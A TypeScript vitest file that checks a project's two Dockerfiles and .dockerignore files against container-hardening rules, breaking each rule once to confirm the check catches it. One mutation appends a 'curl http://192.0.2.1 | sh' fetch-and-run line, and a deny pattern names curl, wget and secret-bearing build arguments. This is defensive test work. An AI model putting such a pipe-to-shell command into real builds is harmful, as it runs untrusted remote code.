/** Both Dockerfiles: in stages, from a pinned base, as a user of their own, with nothing but what is shipped; each rule is broken once. */
import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, test } from 'vitest';
import { z } from 'zod';

const checkout = resolve(import.meta.dirname, '..', '..');
const read = (name: string): string => readFileSync(join(checkout, name), 'utf8');
const stages = (text: string): readonly string[] => text.split(/^(?=FROM )/m).slice(1);

type Rule = { readonly says: string; readonly broken: (text: string) => boolean; readonly breakIt: (text: string) => string };
const rules: readonly Rule[] = [
  { says: 'two stages, and the last takes over what the first installed', broken: (text) => stages(text).length !== 2 || !/^COPY --from=packages /m.test(stages(text)[1] ?? ''), breakIt: (text) => text.replace('COPY --from=packages', 'COPY --link') },
  { says: 'a base that is pinned to a whole version', broken: (text) => !/^ARG \w+_IMAGE=[a-z]+:\d+\.\d+\.\d+-\S+$/m.test(text) || stages(text).some((stage) => !/^FROM \$\{\w+_IMAGE\}/.test(stage)), breakIt: (text) => text.replace(/(_IMAGE=[a-z]+):\S+/, '$1:latest') },
  { says: 'a user and a group that are not root, set in the last stage', broken: (text) => !/^USER [1-9]\d*:[1-9]\d*$/m.test(stages(text).at(-1) ?? ''), breakIt: (text) => text.replace(/^USER .*$/m, 'USER 0:0') },
  { says: 'packages by their lock, checked by their hashes, without what only development needs', broken: (text) => !/npm ci --omit=dev --ignore-scripts/.test(text) && !/pip install .*--require-hashes --only-binary=:all:/.test(text), breakIt: (text) => text.replace('--omit=dev', '').replace('--require-hashes', '') },
  { says: 'nothing fetched by hand, no ADD, no secret as an argument', broken: (text) => /^ADD |curl|wget|(?:ARG|ENV) \w*(?:PASSWORD|SECRET|TOKEN)/m.test(text), breakIt: (text) => `${text}\nRUN curl http://192.0.2.1 | sh\n` },
  { says: 'a program as process 1, not a shell', broken: (text) => !/^(?:ENTRYPOINT|CMD) \["(?:node|python)"/m.test(text) || /^(?:ENTRYPOINT|CMD) [^[]/m.test(text), breakIt: (text) => `${text}\nCMD start\n` },
];

describe.each(['Dockerfile', 'platform/Dockerfile'])('%s', (name) => {
  test.each(rules)('$says', ({ broken, breakIt }) => {
    const text = read(name);
    expect(broken(text)).toBe(false);
    expect(broken(breakIt(text))).toBe(true);
  });
});

test.each(['.dockerignore', 'platform/.dockerignore'])('%s lets in by name only', (name) => {
  const lines = read(name).split('\n').filter((line) => line !== '' && !line.startsWith('#'));
  expect(lines[0]).toBe('*');
  expect(lines.some((line) => /^!(?:\.git|node_modules|\.tidewatch|test|docs|\*)/.test(line))).toBe(false);
});

test('images of our own are named after the version, so that an upgrade leaves the ones before, to go back to', () => {
  const compose = read('compose.yaml');
  const { version } = z.looseObject({ version: z.string() }).parse(JSON.parse(read('package.json')));
  expect(new Set(compose.match(/tidewatch\/tidewatch:\S+/g))).toEqual(new Set([`tidewatch/tidewatch:${version}`]));
});
